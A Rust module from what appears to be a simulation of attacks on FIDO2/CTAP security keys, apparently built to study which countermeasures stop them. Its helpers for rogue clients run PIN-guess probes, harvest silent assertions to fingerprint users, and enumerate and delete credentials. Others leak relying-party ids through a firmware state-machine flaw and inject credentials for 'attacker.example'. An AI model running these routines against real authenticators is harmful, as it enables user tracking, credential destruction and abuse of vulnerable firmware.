//! Request helpers shared by rogue clients and relays.

use std::collections::BTreeMap;

use rand::RngCore;
use rand_chacha::ChaCha20Rng;

use super::fingerprint::{Fingerprint, Sighting};
use crate::actors::UserModel;
use crate::authenticator::Countermeasure;
use crate::cbor::{CborMap, CborValue};
use crate::codec::{ClientPinSub, CredMgmtSub, CtapRequest, CtapResponse, StatusCode};
use crate::crypto::{aes256_cbc_decrypt, aes256_cbc_encrypt, cose_to_public_key, pin_auth, pin_hash, sha256, AgreementKey};
use crate::messages::{
    AssertionResponse, ClientPinParams, CredMgmtParams, EnumeratedCredential, EnumeratedRp, GetAssertionParams,
    MakeCredentialParams, INFO_MAX_DISCOVERABLE_KEY,
};
use crate::transports::{Pipeline, Upstream, VirtualDevice};

/// Somewhere an attacker can send CTAP requests.
pub trait Wire {
    /// Transport failures come back as [`StatusCode::Other`].
    fn send(&mut self, req: &CtapRequest) -> CtapResponse;

    fn last_block(&self) -> Option<Countermeasure>;
}

impl Wire for Upstream<'_> {
    fn send(&mut self, req: &CtapRequest) -> CtapResponse {
        Upstream::send(self, req).unwrap_or_else(|_| CtapResponse::error(StatusCode::Other))
    }

    fn last_block(&self) -> Option<Countermeasure> {
        Upstream::last_block(self)
    }
}

/// A rogue client's own connection.
pub struct AttackerWire<'a> {
    pub pipeline: &'a mut Pipeline,
    pub dev: &'a mut VirtualDevice,
    pub user: &'a mut UserModel,
}

impl Wire for AttackerWire<'_> {
    fn send(&mut self, req: &CtapRequest) -> CtapResponse {
        self.pipeline
            .transact(self.dev, self.user, None, req)
            .unwrap_or_else(|_| CtapResponse::error(StatusCode::Other))
    }

    fn last_block(&self) -> Option<Countermeasure> {
        self.dev.authenticator().last_block()
    }
}

/// Status plus the countermeasure behind it, if one fired.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Denial {
    pub status: StatusCode,
    pub blocked_by: Option<Countermeasure>,
}

pub(crate) fn call(w: &mut dyn Wire, req: &CtapRequest) -> Result<CborMap, Denial> {
    let resp = w.send(req);
    if resp.is_ok() {
        Ok(resp.payload().cloned().unwrap_or_default())
    } else {
        Err(Denial { status: resp.status(), blocked_by: w.last_block() })
    }
}

fn random32(rng: &mut ChaCha20Rng) -> [u8; 32] {
    let mut b = [0u8; 32];
    rng.fill_bytes(&mut b);
    b
}

/// Key agreement with the device. Returns the shared secret and our public key.
pub(crate) fn agree(w: &mut dyn Wire, rng: &mut ChaCha20Rng) -> Result<([u8; 32], CborMap), Denial> {
    let p = ClientPinParams::new(ClientPinSub::GetKeyAgreement);
    let m = call(w, &CtapRequest::client_pin(ClientPinSub::GetKeyAgreement, p.to_map()))?;
    let malformed = Denial { status: StatusCode::Other, blocked_by: None };
    let peer = m.get_int(1).and_then(CborValue::as_map).and_then(cose_to_public_key).ok_or(malformed)?;
    let mine = AgreementKey::generate(rng);
    Ok((mine.shared_secret(&peer), mine.public_cose()))
}

/// GetPinToken for a known PIN hash.
pub(crate) fn pin_token(w: &mut dyn Wire, hash: &[u8; 16], rng: &mut ChaCha20Rng) -> Result<[u8; 32], Denial> {
    let (shared, platform_key) = agree(w, rng)?;
    let mut p = ClientPinParams::new(ClientPinSub::GetPinToken);
    p.key_agreement = Some(platform_key);
    p.pin_hash_enc = aes256_cbc_encrypt(&shared, hash);
    let m = call(w, &CtapRequest::client_pin(ClientPinSub::GetPinToken, p.to_map()))?;
    let malformed = Denial { status: StatusCode::Other, blocked_by: None };
    let enc = m.get_int(2).and_then(CborValue::as_bytes).ok_or(malformed)?;
    aes256_cbc_decrypt(&shared, enc)
        .and_then(|t| <[u8; 32]>::try_from(t.as_slice()).ok())
        .ok_or(malformed)
}

/// One PIN guess that is certainly wrong. Returns the device's verdict.
pub(crate) fn wrong_guess(w: &mut dyn Wire, rng: &mut ChaCha20Rng, victim_pin: &str) -> Denial {
    let guess = format!("{victim_pin}!");
    match pin_token(w, &pin_hash(&guess), rng) {
        Ok(_) => Denial { status: StatusCode::Ok, blocked_by: None },
        Err(d) => d,
    }
}

pub(crate) fn is_guess_counted(s: StatusCode) -> bool {
    matches!(s, StatusCode::PinInvalid | StatusCode::PinAuthBlocked | StatusCode::PinBlocked)
}

pub(crate) struct Harvest {
    pub fingerprint: Fingerprint,
    pub uv_used: bool,
    pub denial: Option<Denial>,
}

/// Silent assertions (`up=false`) for each RP id. Tries without UV first
/// and falls back to `token` only when the credentials demand it.
pub(crate) fn harvest_assertions(
    w: &mut dyn Wire,
    rp_ids: &[String],
    token: Option<&[u8; 32]>,
    rng: &mut ChaCha20Rng,
) -> Harvest {
    let mut out = Harvest { fingerprint: Fingerprint::default(), uv_used: false, denial: None };
    for rp_id in rp_ids {
        let cdh = random32(rng);
        let mut params = GetAssertionParams::new(rp_id, cdh);
        params.up = false;
        let mut result = call(w, &CtapRequest::get_assertion(params.to_map()));
        if let (Err(d), Some(t)) = (&result, token) {
            if d.status == StatusCode::NoCredentials {
                params.pin_auth = Some(pin_auth(t, &cdh).to_vec());
                params.pin_protocol = Some(1);
                result = call(w, &CtapRequest::get_assertion(params.to_map()));
                out.uv_used |= result.is_ok();
            }
        }
        let first = match result {
            Ok(m) => m,
            Err(d) => {
                if out.denial.is_none_or(|prev| prev.status == StatusCode::NoCredentials) {
                    out.denial = Some(d);
                }
                continue;
            }
        };
        let Some(first) = AssertionResponse::from_map(&first) else { continue };
        let n = first.number_of_credentials.unwrap_or(1);
        let mut all = vec![first];
        for _ in 1..n {
            match call(w, &CtapRequest::get_next_assertion()).ok().and_then(|m| AssertionResponse::from_map(&m)) {
                Some(a) => all.push(a),
                None => break,
            }
        }
        for a in all {
            out.fingerprint.push(Sighting {
                rp_id: rp_id.clone(),
                cred_id: a.cred_id,
                user_id: a.user_id.unwrap_or_default(),
            });
        }
    }
    out
}

fn cm_request(sub: CredMgmtSub, token: Option<&[u8; 32]>, fill: impl FnOnce(&mut CredMgmtParams)) -> CtapRequest {
    let mut p = CredMgmtParams::new(sub);
    fill(&mut p);
    if let Some(t) = token {
        p.protocol = Some(1);
        p.pin_auth = Some(pin_auth(t, &p.auth_message()).to_vec());
    }
    CtapRequest::cred_mgmt(sub, p.to_map())
}

pub(crate) fn creds_metadata(w: &mut dyn Wire, token: Option<&[u8; 32]>) -> Result<CborMap, Denial> {
    call(w, &cm_request(CredMgmtSub::GetCredsMetadata, token, |_| {}))
}

/// Every stored credential id, by walking both enumerations.
pub(crate) fn enumerate_credentials(w: &mut dyn Wire, token: &[u8; 32]) -> Result<Vec<Vec<u8>>, Denial> {
    let first = match call(w, &cm_request(CredMgmtSub::EnumerateRpsBegin, Some(token), |_| {})) {
        Ok(m) => m,
        Err(d) if d.status == StatusCode::NoCredentials => return Ok(Vec::new()),
        Err(d) => return Err(d),
    };
    let first = EnumeratedRp::from_map(&first).ok_or(Denial { status: StatusCode::Other, blocked_by: None })?;
    let mut hashes = vec![first.rp_id_hash];
    for _ in 1..first.total.unwrap_or(1) {
        let next = call(w, &cm_request(CredMgmtSub::EnumerateRpsGetNextRp, None, |_| {}))?;
        if let Some(rp) = EnumeratedRp::from_map(&next) {
            hashes.push(rp.rp_id_hash);
        }
    }
    let mut ids = Vec::new();
    for h in hashes {
        let begin = call(w, &cm_request(CredMgmtSub::EnumerateCredentialsBegin, Some(token), |p| p.rp_id_hash = Some(h)))?;
        let Some(c) = EnumeratedCredential::from_map(&begin) else { continue };
        let total = c.total.unwrap_or(1);
        ids.push(c.cred_id);
        for _ in 1..total {
            let next = call(w, &cm_request(CredMgmtSub::EnumerateCredentialsGetNextCredential, None, |_| {}))?;
            if let Some(c) = EnumeratedCredential::from_map(&next) {
                ids.push(c.cred_id);
            }
        }
    }
    Ok(ids)
}

pub(crate) fn delete_credential(w: &mut dyn Wire, token: &[u8; 32], cred_id: &[u8]) -> Result<(), Denial> {
    call(w, &cm_request(CredMgmtSub::DeleteCredential, Some(token), |p| p.credential_id = Some(cred_id.to_vec())))
        .map(|_| ())
}

/// RP ids read by asking for "the next" RP without ever beginning an
/// enumeration, as the vulnerable firmware allows.
pub(crate) fn leak_rps_without_token(w: &mut dyn Wire, limit: usize) -> (Vec<String>, StatusCode) {
    let mut rps = Vec::new();
    loop {
        let req = cm_request(CredMgmtSub::EnumerateRpsGetNextRp, None, |_| {});
        match call(w, &req) {
            Ok(m) => match EnumeratedRp::from_map(&m) {
                Some(rp) if rps.len() < limit => rps.push(rp.rp_id),
                _ => return (rps, StatusCode::Other),
            },
            Err(d) => return (rps, d.status),
        }
    }
}

/// A discoverable credential for an RP the attacker controls.
pub(crate) fn inject_credential(w: &mut dyn Wire, token: Option<&[u8; 32]>, rng: &mut ChaCha20Rng) -> Result<(), Denial> {
    let cdh = random32(rng);
    let user_id = random32(rng).to_vec();
    let params = MakeCredentialParams {
        client_data_hash: cdh,
        rp_id: "attacker.example".into(),
        user_name: format!("filler-{}", hex::encode(&user_id[..4])),
        user_id,
        rk: true,
        cred_protect: None,
        cred_blob: None,
        pin_auth: token.map(|t| pin_auth(t, &cdh).to_vec()),
        pin_protocol: token.map(|_| 1),
    };
    call(w, &CtapRequest::make_credential(params.to_map())).map(|_| ())
}

const INFO_FIELDS: [(i64, &str); 9] = [
    (0x01, "versions"),
    (0x02, "extensions"),
    (0x03, "aaguid"),
    (0x04, "options"),
    (0x06, "pinProtocols"),
    (0x09, "transports"),
    (0x0e, "firmware"),
    (0x14, "remainingCreds"),
    (INFO_MAX_DISCOVERABLE_KEY, "maxCreds"),
];

/// GetInfo flattened into named text fields.
pub(crate) fn info_summary(m: &CborMap) -> BTreeMap<String, String> {
    INFO_FIELDS
        .iter()
        .filter_map(|&(k, name)| m.get_int(k).map(|v| (name.to_owned(), v.to_string())))
        .collect()
}

pub(crate) fn info_digest(info: &BTreeMap<String, String>) -> String {
    let joined: String = info.iter().map(|(k, v)| format!("{k}={v};")).collect();
    hex::encode(&sha256(joined.as_bytes())[..8])
}
